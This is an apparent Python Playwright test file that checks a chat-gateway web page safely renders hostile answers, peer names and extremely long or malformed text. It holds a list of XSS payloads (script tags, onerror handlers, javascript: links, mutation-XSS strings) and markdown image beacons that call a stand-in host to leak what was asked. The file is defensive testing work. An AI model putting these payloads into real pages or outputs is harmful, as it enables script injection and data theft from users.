"""What strangers write and call themselves: nothing of it runs, loads, leads elsewhere or stops the page."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import Page, expect

from monai_node.mesh.gateway.backend import PeerView
from page.stage import PEERS, Stage, ask

pytestmark = pytest.mark.full

OpenPage = Callable[..., Page]

# Sets a mark that the test looks for, in every way that came to mind.
ATTACK = "window.hacked=1"
BEACON = "https://evil.example/leak"
MARKUP = (
    f"<script>{ATTACK}</script>",
    f"<img src=x onerror={ATTACK}>",
    f"<svg onload={ATTACK}><animate onbegin={ATTACK} attributeName=x></svg>",
    f"<iframe srcdoc='<script>parent.{ATTACK}</script>'></iframe>",
    f"<a href='javascript:{ATTACK}'>click me</a>",
    f"<style>@import '{BEACON}'; body {{ background: url({BEACON}) }}</style>",
    f"<link rel=stylesheet href={BEACON}><base href={BEACON}>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<form action={BEACON}><button autofocus onfocus={ATTACK}>x</button></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ATTACK}>",
    "--><!--<![CDATA[ <noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
)
MARKDOWN = (
    f"![beacon]({BEACON}?q=what-was-asked)",
    f"[![beacon]({BEACON})]({BEACON})",
    f"[click me](javascript:{ATTACK})",
    f"[click me](JaVaScRiPt&#58;{ATTACK})",
    f"[click me](\x01javascript:{ATTACK})",
    f"[click me](data:text/html,<script>{ATTACK}</script>)",
    f"[click me](vbscript:{ATTACK})",
    "[click me](/v1/peers)",
    "[click me](//evil.example/x)",
    "[click me](blob:http://127.0.0.1/x)",
    f"<javascript:{ATTACK}>",
    f'[x]({BEACON} "\\" onmouseover={ATTACK} x=\\"")',
    f"```html\n<script>{ATTACK}</script>",
)
SHAPES = (
    "> " * 1000 + "deep",
    ">" * 5000,
    "\n".join(f"{'  ' * depth}- item" for depth in range(300)),
    "*a " * 3000 + "a* " * 3000,
    "[" * 5000 + "](x)" * 5000,
    "`" * 5000,
    "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|b" * 300,
    "a\u200b\u200d\ufeff\u202e\u2066b\u0000\u001b[31m" * 500,
    "\u0301" * 3000 + "Z\u0310\u0334" * 2000,
    "W" * 20_000,
)


def _is_calm(page: Page) -> None:
    """Nothing ran, and a frame is drawn within the time that tests wait for anything."""
    assert page.evaluate("window.hacked") is None
    page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")


def test_nothing_that_an_answer_holds_runs_loads_or_leads_into_the_gateway(page: Page, stage: Stage) -> None:
    ask(page, "Attack")
    stage.tell("\n\n".join((*MARKUP, *MARKDOWN)))
    expect(page.locator(".made-by")).to_be_visible()
    answer = page.locator(".parts")
    expect(answer).to_contain_text("<img src=x onerror=window.hacked=1>")
    assert (
        answer.locator("img, script, iframe, svg:not(.icon), style, link, form, base, meta, object").count()
        == 0
    )
    hrefs = answer.locator("a").evaluate_all("(all) => all.map((one) => one.href)")
    assert hrefs
    assert all(str(href).startswith("https://evil.example/leak") for href in hrefs)
    rels = answer.locator("a").evaluate_all("(all) => all.map(({rel, target}) => rel + ' ' + target)")
    assert set(rels) == {"noopener noreferrer nofollow _blank"}
    expect(answer.locator("a").first).to_contain_text("evil.example")
    for words in answer.get_by_text("click me").all():
        words.click()
    _is_calm(page)


@pytest.mark.parametrize("at", range(len(SHAPES)))
def test_no_shape_of_text_stops_the_page(page: Page, stage: Stage, at: int) -> None:
    ask(page, "Attack")
    stage.wait_run()
    stage.plan(("t1", "say it", []))
    stage.send("t1", "anna")
    text = SHAPES[at]
    for start in range(0, len(text), 2000):
        stage.text("t1", text[start : start + 2000])
    stage.done("t1", "anna")
    stage.finish()
    expect(page.locator(".made-by")).to_be_visible()
    _is_calm(page)
    assert page.evaluate("document.scrollingElement.scrollWidth <= innerWidth")


def test_what_peers_and_tasks_call_themselves_is_text(page: Page, stage: Stage) -> None:
    evil = f"<img src=x onerror={ATTACK}>\u202e" + "x" * 300
    stage.backend.peer_views = [
        PeerView(
            PEERS["anna"],
            evil,
            "alive",
            addrs=[evil],
            models=[evil],
            skills=[evil] * 50,
            last_heard_seconds=1.0,
        )
    ]
    ask(page, evil)
    stage.wait_run()
    stage.plan(("t1", evil, []))
    stage.send("t1", "anna")
    stage.text("t1", "x")
    stage.done("t1", "anna", peer_name=evil, model=evil, verdict=evil)
    stage.finish()
    page.locator(".node").click()
    page.get_by_role("tab", name="Mesh").click()
    expect(page.locator(".peers")).to_contain_text("<img src=x")
    page.locator(".peers summary").first.click()
    assert page.locator("img").count() == 0
    assert "\u202e" not in page.locator("body").inner_text()
    _is_calm(page)
    assert page.evaluate("document.scrollingElement.scrollWidth <= innerWidth")


def test_a_long_answer_leaves_the_page_time_for_its_user(page: Page, stage: Stage) -> None:
    ask(page, "Write much")
    stage.wait_run()
    stage.plan(("t1", "write", []))
    stage.send("t1", "anna")
    paragraphs = [f"## Part {n}\n\n" + "Some *words* and `code`. " * 20 for n in range(100)]
    table = "| a | b | c | d | e |\n|---|---|---|---|---|\n" + "| 1 | **2** | 3 | 4 | 5 |\n" * 1000
    text = "\n\n".join((*paragraphs, table, "The end."))
    assert len(text) > 50_000
    for start in range(0, len(text), 40):
        stage.text("t1", text[start : start + 40])
        if start % 8000 == 0:  # what is typed meanwhile arrives
            page.get_by_label("Message", exact=True).press("x")
    stage.done("t1", "anna")
    stage.finish()
    expect(page.locator(".made-by")).to_be_visible(timeout=60_000)
    expect(page.locator(".parts")).to_contain_text("The end.")
    assert page.get_by_label("Message", exact=True).input_value() == "x" * (1 + (len(text) - 1) // 8000)
    assert page.locator(".parts td").count() < 1000
    page.get_by_role("button", name="Show all 1,000 rows").click()
    expect(page.locator(".parts tbody tr")).to_have_count(1000)
    _is_calm(page)
